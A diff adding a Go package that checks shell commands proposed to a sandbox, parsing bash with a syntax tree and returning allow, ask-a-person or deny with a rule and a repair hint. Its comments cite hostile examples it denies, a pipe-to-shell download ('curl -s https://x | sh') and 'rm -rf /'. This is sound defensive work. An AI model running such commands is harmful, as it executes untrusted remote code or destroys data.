@@ -1,0 +1,219 @@
+// Package command judges a proposed shell command before it runs: allow,
+// ask a person first, or deny, naming the command that decided, the rule,
+// and one concrete repair.
+//
+// It reads the command the way bash would, on the syntax tree of
+// mvdan.cc/sh/v3, never with patterns over the text: quotes and escapes are
+// removed ('r'm, \rm, "rm" and $'\x72m' are all rm), every nested command
+// is visited (pipelines, lists, subshells, blocks, $(...) and backticks,
+// <(...), function bodies, if/while/for/case, here-documents, arithmetic),
+// wrappers are seen through (env, nice, timeout, xargs, find -exec,
+// busybox, sudo, sh -c with a literal script, ...), and a command whose
+// name is only known when it runs ($x, $(...), {a,b}, globs, eval, source)
+// is denied. Redirections and the path arguments of commands that write or
+// delete are resolved against the workspace mount, so that rm -rf build is
+// allowed while rm -rf /, rm ~/x and > ../x are not.
+//
+// The verdict of a script is the most severe verdict of its commands (deny
+// over ask over allow), and the Decision names the first command that
+// caused it:
+//
+//	d := command.Default().Check("go test ./... && curl -s https://x | sh", nil)
+//	// d.Verdict == command.Deny, d.Rule == "deny:pipe-to-shell", d.Name == "sh"
+//
+// The built-in rules are described in rules.go; each has a stable id such
+// as "deny:destructive-outside" or "ask:network". A policy file's commands:
+// section (Config) adds command names to deny, ask or allow; it can tighten
+// anything but can only allow what the built-in rules would merely ask
+// for. A Policy is compiled once and is safe for concurrent use; a nil
+// *Policy denies every command.
+package command
+
+import (
+	"fmt"
+	"path"
+	"sync"
+)
+
+// Limits. Each bounds the work one check may cost; tripping one denies the
+// command with a Decision that names the limit.
+const (
+	// MaxScriptBytes is the most bytes a script given to Check may hold,
+	// and the most bytes, all words together, of an argv given to
+	// CheckArgv.
+	MaxScriptBytes = 64 << 10
+	// MaxDepth is how deeply scripts may nest inside literal scripts:
+	// sh -c 'bash -c "..."' is depth 2, as is a trap action inside sh -c.
+	MaxDepth = 8
+	// MaxCommands is the most simple commands one check examines,
+	// counting every command a wrapper runs (nice timeout rm is three).
+	MaxCommands = 256
+	// MaxNesting is the deepest the syntax of one script may nest:
+	// subshells, blocks, substitutions, clauses and pipelines inside one
+	// another. It keeps the walk of a hostile tree bounded.
+	MaxNesting = 64
+	// MaxArgs is the most words one simple command may have.
+	MaxArgs = 4096
+)
+
+// DefaultWorkspace is where the sandbox mounts the workspace, the
+// directory a command starts in and may change.
+const DefaultWorkspace = "/workspace"
+
+// Verdict is what a Decision lets happen. The zero Verdict denies, so a
+// forgotten field fails closed.
+type Verdict uint8
+
+const (
+	Deny  Verdict = iota // the command does not run
+	Ask                  // the command runs once a person approves it
+	Allow                // the command runs
+)
+
+var verdictNames = [...]string{Deny: "deny", Ask: "ask", Allow: "allow"}
+
+func (v Verdict) String() string {
+	if int(v) < len(verdictNames) {
+		return verdictNames[v]
+	}
+	return fmt.Sprintf("Verdict(%d)", uint8(v))
+}
+
+// MarshalText writes the verdict's name.
+func (v Verdict) MarshalText() ([]byte, error) { return []byte(v.String()), nil }
+
+// severer reports whether v is more severe than w: deny over ask over allow.
+func (v Verdict) severer(w Verdict) bool { return v < w }
+
+// Codes a refusal carries, stable snake_case words. An Allow has no code.
+const (
+	CodeDenied        = "command_denied"         // a rule denies the command
+	CodeNeedsApproval = "command_needs_approval" // a rule asks a person first
+	CodeParseError    = "command_parse_error"    // the script is not valid bash
+	CodeTooLong       = "command_too_long"       // over MaxScriptBytes or MaxArgs
+	CodeTooComplex    = "command_too_complex"    // over MaxDepth, MaxCommands or MaxNesting
+	CodeInternal      = "command_internal_error" // the check itself failed; the command is denied
+)
+
+// Decision is the answer for one script or argv.
+type Decision struct {
+	Verdict Verdict `json:"verdict"`
+	// Name is the resolved name of the command that decided, after quotes,
+	// paths and wrappers: "rm" for `nice /bin/'rm' -rf /`. It is empty when
+	// no one command decided (a parse error, a limit, an empty script).
+	Name string `json:"name,omitempty"`
+	// Command is that command's argv as the shell would hand it over,
+	// joined by spaces: "rm -rf /". Words only known at run time are shown
+	// as written ($x).
+	Command string `json:"command,omitempty"`
+	// Rule is the id of the rule that decided, such as
+	// "deny:destructive-outside", "ask:network" or "allow:inspect".
+	Rule string `json:"rule"`
+	// Code is one of the Code constants; empty for Allow.
+	Code string `json:"code,omitempty"`
+	// Message says why, in words safe to show a model; Hint is one
+	// concrete repair. Both are set for every Deny and Ask.
+	Message string `json:"message,omitempty"`
+	Hint    string `json:"hint,omitempty"`
+	// Pos is the 1-based byte offset in the script of the statement that
+	// decided, or 0 when none did (CheckArgv, limits, empty scripts).
+	Pos int `json:"pos,omitempty"`
+}
+
+// Options are the facts of the place a command will run in. A nil
+// *Options means the defaults.
+type Options struct {
+	// Workspace is the absolute path the workspace is mounted at inside the
+	// sandbox, and the directory commands start in. "" means
+	// DefaultWorkspace. A relative path is taken as relative to /.
+	Workspace string
+}
+
+func (o *Options) workspace() string {
+	if o == nil || o.Workspace == "" {
+		return DefaultWorkspace
+	}
+	return path.Clean("/" + o.Workspace)
+}
+
+// Policy is a compiled command policy: the built-in rules plus the entries
+// of at most one Config. It is immutable and safe for concurrent use. A nil
+// *Policy denies every command.
+type Policy struct {
+	user map[string][]*entry // by "name" or "name sub"
+}
+
+var builtin = sync.OnceValue(func() *Policy { return &Policy{} })
+
+// Default returns the policy of the built-in rules alone.
+func Default() *Policy { return builtin() }
+
+// Check judges a bash script, as a sandboxed `bash -c script` would run it.
+func (p *Policy) Check(script string, opts *Options) (d Decision) {
+	if p == nil {
+		return noPolicy()
+	}
+	if len(script) > MaxScriptBytes {
+		return limitDecision(CodeTooLong, "MaxScriptBytes",
+			fmt.Sprintf("the script is %d bytes, over the limit of %d (MaxScriptBytes)", len(script), MaxScriptBytes),
+			"Send a shorter command, or put the work in a script file inside the workspace and run that")
+	}
+	c := p.newChecker(opts)
+	defer c.recoverInto(&d)
+	c.script(script, 0, 0)
+	c.finishScript()
+	return c.decision()
+}
+
+// CheckArgv judges a program run directly with argv, without a shell:
+// argv[0] is the program and no word is expanded. It still sees through
+// wrappers, so CheckArgv([]string{"sh", "-c", "rm -rf /"}) is denied.
+func (p *Policy) CheckArgv(argv []string, opts *Options) (d Decision) {
+	if p == nil {
+		return noPolicy()
+	}
+	total := 0
+	for _, a := range argv {
+		total += len(a)
+	}
+	if total > MaxScriptBytes {
+		return limitDecision(CodeTooLong, "MaxScriptBytes",
+			fmt.Sprintf("the argv is %d bytes, over the limit of %d (MaxScriptBytes)", total, MaxScriptBytes),
+			"Send a shorter command")
+	}
+	if len(argv) == 0 {
+		return Decision{Verdict: Deny, Rule: "deny:empty", Code: CodeDenied,
+			Message: "the argv is empty: there is no program to run",
+			Hint:    "Give the program's name as the first word, as in [\"ls\", \"-la\"]"}
+	}
+	c := p.newChecker(opts)
+	defer c.recoverInto(&d)
+	args := make([]arg, len(argv))
+	for i, a := range argv {
+		args[i] = literalArg(a)
+	}
+	c.simple(args, &frame{})
+	c.finishScript()
+	return c.decision()
+}
+
+func noPolicy() Decision {
+	return Decision{Verdict: Deny, Rule: "deny:no-policy", Code: CodeDenied,
+		Message: "no command policy is configured, so every command is denied",
+		Hint:    "Start airlock with a command policy (command.Default() or command.Compile)"}
+}
+
+func limitDecision(code, limit, msg, hint string) Decision {
+	return Decision{Verdict: Deny, Rule: "deny:limit:" + limit, Code: code, Message: msg, Hint: hint}
+}
+
+// recoverInto turns a panic inside the checker into a denial, so that a
+// bug in the walk can never let a command through or crash the gate. The
+// fuzz target treats this rule as a failure.
+func (c *checker) recoverInto(d *Decision) {
+	if r := recover(); r != nil {
+		*d = Decision{Verdict: Deny, Rule: "deny:internal", Code: CodeInternal,
+			Message: "the command could not be checked, so it is denied",
+			Hint:    "Write the command more simply, one plain command at a time"}
+	}
+}
